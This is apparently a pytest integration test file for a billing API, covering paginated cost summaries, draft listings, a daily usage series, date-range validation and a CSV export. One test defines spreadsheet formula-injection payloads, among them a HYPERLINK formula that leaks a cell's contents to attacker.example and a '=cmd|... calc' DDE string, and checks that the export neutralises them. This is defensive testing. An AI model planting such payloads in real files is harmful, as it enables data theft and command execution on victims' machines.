"""The v2 reads of a large ledger: job pages, drafts, the daily series and the CSV export."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest

from tests.integration.billing.conftest import (
    ABANDONED_AFTER_HOURS,
    record,
    record_drafts_of_every_age,
)
from tests.support.auth import bearer
from tests.support.events import generated, job_created
from tests.support.paging import every_page
from tests.support.stack import Stack

HEADER = (
    "id,createdAt,period,jobId,jobTitle,draftJobId,questionCount,promptTokens,completionTokens,"
    "totalTokens,cost,currency,modelUsed,priceId"
)


async def refused(stack: Stack, company: UUID, path: str, **params: Any) -> list[str]:
    """The fields a 422 names."""
    response = await stack.billing.get(path, params=params, headers=bearer(company))
    assert response.status_code == 422, response.text
    return [error["field"] for error in response.json()["errors"]]


async def jobs_with_costs(stack: Stack, company: UUID, questions: list[int]) -> list[UUID]:
    jobs = [job_created(company) for _ in questions]
    await record(stack, *jobs)
    await record(
        stack,
        *(
            generated(company, job_id=job.job_id, questions=count)
            for job, count in zip(jobs, questions, strict=True)
        ),
    )
    return [job.job_id for job in jobs]


async def test_job_lines_come_a_page_at_a_time_by_cost_then_job(
    billing: Stack, company: UUID
) -> None:
    ids = await jobs_with_costs(billing, company, [10, 30, 20, 30, 5])
    expected = sorted(
        zip(ids, ["0.1000", "0.3000", "0.2000", "0.3000", "0.0500"], strict=True),
        key=lambda pair: (-float(pair[1]), str(pair[0])),
    )

    seen: list[tuple[str, str]] = []
    cursor = None
    for _ in range(3):
        page = await billing.billing_json(
            company,
            "/api/billing/summary",
            limit=2,
            **({"cursor": cursor} if cursor else {}),
        )
        assert page["totals"]["cost"] == "0.9500"
        seen += [(line["jobId"], line["cost"]) for line in page["jobs"]]
        cursor = page["nextCursor"]
    assert cursor is None
    assert seen == [(str(job), cost) for job, cost in expected]

    default = await billing.billing_json(company, "/api/billing/summary")
    assert len(default["jobs"]) == 5
    assert default["nextCursor"] is None


async def test_exactly_full_last_pages_of_job_lines_and_drafts_have_no_next_cursor(
    billing: Stack, company: UUID
) -> None:
    by_cost = [str(job) for job in reversed(await jobs_with_costs(billing, company, [1, 2, 3, 4]))]
    start = datetime.now(UTC) - timedelta(hours=1)
    drafts = [f"draft-{n}" for n in range(4)]
    used = [start + timedelta(minutes=n) for n in range(4)]
    await record(
        billing, *(generated(company, at=at, draft=d) for at, d in zip(used, drafts, strict=True))
    )

    for path, items, key, expected in (
        ("/api/billing/summary", "jobs", "jobId", by_cost),
        ("/api/billing/drafts", "drafts", "draftJobId", drafts),
    ):
        for limit in (1, 2, 4):

            async def read(
                params: dict[str, Any], path: str = path, limit: int = limit
            ) -> dict[str, Any]:
                page: dict[str, Any] = await billing.billing_json(
                    company, path, limit=limit, **params
                )
                return page

            pages = await every_page(read, items)
            assert [len(page) for page in pages] == [limit] * (4 // limit), (path, limit)
            assert [item[key] for page in pages for item in page] == expected, (path, limit)


async def test_a_cursor_of_another_query_or_company_is_refused(
    billing: Stack, company: UUID
) -> None:
    await jobs_with_costs(billing, company, [10, 20])
    page = await billing.billing_json(company, "/api/billing/summary", limit=1)
    cursor = page["nextCursor"]
    assert cursor

    path = "/api/billing/summary"
    assert await refused(billing, company, path, cursor=cursor, to="2030-01-01T00:00:00Z") == [
        "cursor"
    ]
    assert await refused(billing, uuid.uuid4(), path, cursor=cursor) == ["cursor"]
    assert await refused(billing, company, "/api/billing/drafts", cursor=cursor) == ["cursor"]
    assert await refused(billing, company, path, cursor="bm90LWEtY3Vyc29y") == ["cursor"]
    assert await refused(billing, company, path, limit=1001) == ["limit"]


async def test_open_drafts_are_listed_oldest_first_and_filtered_by_abandoned(
    billing: Stack, company: UUID
) -> None:
    now, old = await record_drafts_of_every_age(billing, company)

    everything = await billing.billing_json(company, "/api/billing/drafts")
    assert [d["draftJobId"] for d in everything["drafts"]] == ["forgotten", "in-progress"]
    forgotten = everything["drafts"][0]
    assert (forgotten["cost"], forgotten["questionCount"], forgotten["generations"]) == (
        "0.1200",
        12,
        2,
    )
    assert datetime.fromisoformat(forgotten["firstUsedAt"]) == old
    assert forgotten["abandoned"] is True
    assert everything["nextCursor"] is None

    abandoned = await billing.billing_json(company, "/api/billing/drafts", abandoned="true")
    assert [d["draftJobId"] for d in abandoned["drafts"]] == ["forgotten"]
    waiting = await billing.billing_json(company, "/api/billing/drafts", abandoned="false")
    assert [d["draftJobId"] for d in waiting["drafts"]] == ["in-progress"]

    first = await billing.billing_json(company, "/api/billing/drafts", limit=1)
    second = await billing.billing_json(
        company, "/api/billing/drafts", limit=1, cursor=first["nextCursor"]
    )
    assert [d["draftJobId"] for d in second["drafts"]] == ["in-progress"]
    assert await refused(
        billing, company, "/api/billing/drafts", abandoned="true", cursor=first["nextCursor"]
    ) == ["cursor"]

    # The summary counts them: the age is the draft's, not the range's.
    summary = await billing.billing_json(company, "/api/billing/summary")
    assert (summary["drafts"]["count"], summary["drafts"]["abandoned"]) == (2, 1)
    recent = await billing.billing_json(
        company, "/api/billing/summary", **{"from": (now - timedelta(hours=2)).isoformat()}
    )
    assert (recent["drafts"]["count"], recent["drafts"]["abandoned"]) == (2, 1)
    assert recent["drafts"]["cost"] == "0.1200"


async def test_a_draft_is_abandoned_once_older_than_the_age_by_the_apps_clock(
    billing: Stack, company: UUID
) -> None:
    now = datetime(2025, 6, 15, 12, 0, tzinfo=UTC)
    cutoff = now - timedelta(hours=ABANDONED_AFTER_HOURS)
    await record(
        billing,
        generated(company, at=cutoff - timedelta(milliseconds=1), draft="just-older"),
        generated(company, at=cutoff + timedelta(milliseconds=1), draft="just-younger"),
    )
    billing.apps["billing"].state.clock = lambda: now  # by the real clock both are old

    everything = await billing.billing_json(company, "/api/billing/drafts")
    assert {d["draftJobId"]: d["abandoned"] for d in everything["drafts"]} == {
        "just-older": True,
        "just-younger": False,
    }
    abandoned = await billing.billing_json(company, "/api/billing/drafts", abandoned="true")
    assert [d["draftJobId"] for d in abandoned["drafts"]] == ["just-older"]
    waiting = await billing.billing_json(company, "/api/billing/drafts", abandoned="false")
    assert [d["draftJobId"] for d in waiting["drafts"]] == ["just-younger"]
    summary = await billing.billing_json(company, "/api/billing/summary")
    assert (summary["drafts"]["count"], summary["drafts"]["abandoned"]) == (2, 1)


async def test_the_daily_series_has_one_entry_per_day_with_usage(
    billing: Stack, company: UUID
) -> None:
    job = job_created(company)
    await record(billing, job)
    midnight = datetime(2025, 3, 1, tzinfo=UTC)
    await record(
        billing,
        generated(company, at=midnight - timedelta(microseconds=1), job_id=job.job_id, questions=1),
        generated(company, at=midnight, job_id=job.job_id, questions=2),
        generated(company, at=midnight + timedelta(hours=23), draft="d", questions=3),
        generated(company, at=midnight + timedelta(days=3), draft="d", questions=4),
        generated(uuid.uuid4(), at=midnight, draft="d", questions=50),
    )

    body = await billing.billing_json(
        company, "/api/billing/usage/daily", **{"from": "2025-02-28", "to": "2025-03-03"}
    )

    assert body["from"] == "2025-02-28"
    assert body["to"] == "2025-03-03"
    assert body["days"] == [
        {"date": "2025-02-28", "generations": 1, "questionCount": 1, "cost": "0.0100"},
        {"date": "2025-03-01", "generations": 2, "questionCount": 5, "cost": "0.0500"},
    ]
    longer = await billing.billing_json(
        company, "/api/billing/usage/daily", **{"from": "2025-03-04", "to": "2025-03-04"}
    )
    assert [day["cost"] for day in longer["days"]] == ["0.0400"]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2025-03-02", "to": "2025-03-01"}, "from"),
        ({"from": "2024-01-01", "to": "2025-02-04"}, "to"),  # 401 days
        ({"from": "2025-03-01"}, "to"),
        ({"from": "yesterday", "to": "2025-03-01"}, "from"),
    ],
)
async def test_a_daily_series_asked_wrongly_is_refused_naming_the_field(
    billing: Stack, company: UUID, params: dict[str, str], field: str
) -> None:
    assert field in await refused(billing, company, "/api/billing/usage/daily", **params)


async def test_400_days_are_answered(billing: Stack, company: UUID) -> None:
    body = await billing.billing_json(
        company, "/api/billing/usage/daily", **{"from": "2024-01-01", "to": "2025-02-03"}
    )
    assert body["days"] == []


async def test_the_csv_export_holds_the_company_rows_of_the_range_oldest_first(
    billing: Stack, company: UUID
) -> None:
    job = job_created(company, title='Data analyst, "senior"')
    await record(billing, job)
    t0 = datetime(2025, 3, 1, 12, tzinfo=UTC)
    await record(
        billing,
        generated(company, at=t0 + timedelta(hours=2), job_id=job.job_id, questions=7),
        generated(company, at=t0, draft='with "quotes", and a comma', questions=3),
        generated(company, at=t0 - timedelta(days=1), draft="before", questions=1),
        generated(uuid.uuid4(), at=t0, draft="someone-else", questions=50),
    )

    response = await billing.billing.get(
        "/api/billing/usage.csv",
        params={"from": "2025-03-01T00:00:00Z", "to": "2025-04-01T00:00:00Z"},
        headers=bearer(company),
    )

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=")
    assert disposition.endswith('.csv"')
    lines = response.text.splitlines()
    assert lines[0] == HEADER
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["draftJobId"] for row in rows] == ['with "quotes", and a comma', ""]
    assert [row["jobId"] for row in rows] == ["", str(job.job_id)]
    assert [row["jobTitle"] for row in rows] == ["", 'Data analyst, "senior"']
    assert [row["currency"] for row in rows] == ["USD", "USD"]
    assert [row["cost"] for row in rows] == ["0.0300", "0.0700"]
    assert [row["period"] for row in rows] == ["2025-03", "2025-03"]
    assert rows[0]["createdAt"] == "2025-03-01T12:00:00.000000Z"
    assert rows[1]["questionCount"] == "7"

    everything = await billing.billing.get("/api/billing/usage.csv", headers=bearer(company))
    assert len(everything.text.splitlines()) == 1 + 3


FORMULAS = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
]


async def test_no_text_cell_of_the_csv_is_a_formula_to_a_spreadsheet(
    billing: Stack, company: UUID
) -> None:
    """OWASP's rule: a text cell starting with =, +, -, @, a tab or a carriage return gets
    a `'` before it. Ids, instants and numbers stay as they are."""
    t0 = datetime(2025, 3, 1, 12, tzinfo=UTC)
    harmless = ["draft-=-not-first", "'already quoted", "safe"]
    await record(
        billing,
        *(
            generated(company, at=t0 + timedelta(minutes=n), draft=draft, questions=n + 1)
            for n, draft in enumerate(FORMULAS + harmless)
        ),
        generated(company, at=t0 + timedelta(hours=1), draft="model", model="=cmd|' /C calc'!A0"),
    )

    response = await billing.billing.get("/api/billing/usage.csv", headers=bearer(company))

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["draftJobId"] for row in rows] == [
        *(f"'{draft}" for draft in FORMULAS),
        *harmless,
        "model",
    ]
    assert [row["modelUsed"] for row in rows] == ["gpt-4o"] * 9 + ["'=cmd|' /C calc'!A0"]
    assert [row["questionCount"] for row in rows] == [*(str(n + 1) for n in range(9)), "10"]
    assert rows[0]["cost"] == "0.0100"
    assert all(not row["cost"].startswith("'") for row in rows)
    # The API itself keeps the ids as they were sent: only the spreadsheet's copy is quoted.
    page = await billing.billing_json(company, "/api/billing/usage", limit=100)
    assert sorted(item["draftJobId"] for item in page["items"]) == sorted(
        [*FORMULAS, *harmless, "model"]
    )


async def test_usage_rows_carry_their_period_and_price(billing: Stack, company: UUID) -> None:
    await record(billing, generated(company, at=datetime(2025, 1, 31, 23, 59, tzinfo=UTC)))
    body = await billing.billing_json(company, "/api/billing/usage")
    [row] = body["items"]
    assert row["period"] == "2025-01"
    assert "priceId" in row


BEFORE_TIME = "0001-01-01T00:00:00+01:00"  # 31 December of the year 0 in UTC
AFTER_TIME = "9999-12-31T23:30:00-01:00"  # 1 January 10000 in UTC


@pytest.mark.parametrize(
    "path", ["/api/billing/summary", "/api/billing/usage", "/api/billing/usage.csv"]
)
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": BEFORE_TIME}, "from"),
        ({"to": AFTER_TIME}, "to"),
        ({"from": BEFORE_TIME, "to": AFTER_TIME}, "from"),
        ({"from": "2025-01-01T00:00:00Z", "to": AFTER_TIME}, "to"),
    ],
)
async def test_a_range_off_the_calendar_in_utc_is_a_422_naming_the_field(
    billing: Stack, company: UUID, path: str, params: dict[str, str], field: str
) -> None:
    assert field in await refused(billing, company, path, **params)


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": BEFORE_TIME, "to": "0001-01-02"}, "from"),
        ({"from": "2025-01-01", "to": AFTER_TIME}, "to"),
        ({"from": "9999-12-01", "to": "9999-12-31"}, "to"),
    ],
)
async def test_a_daily_series_off_the_calendar_is_a_422_naming_the_field(
    billing: Stack, company: UUID, params: dict[str, str], field: str
) -> None:
    assert field in await refused(billing, company, "/api/billing/usage/daily", **params)


async def test_the_first_and_last_instants_of_the_calendar_are_answered(
    billing: Stack, company: UUID
) -> None:
    await record(billing, generated(company, draft="d", questions=10))
    everything = {"from": "0001-01-01T00:00:00Z", "to": "9998-12-31T23:59:59.999999Z"}
    body = await billing.billing_json(company, "/api/billing/summary", **everything)
    assert body["totals"]["cost"] == "0.1000"
    page = await billing.billing_json(company, "/api/billing/usage", **everything)
    assert len(page["items"]) == 1
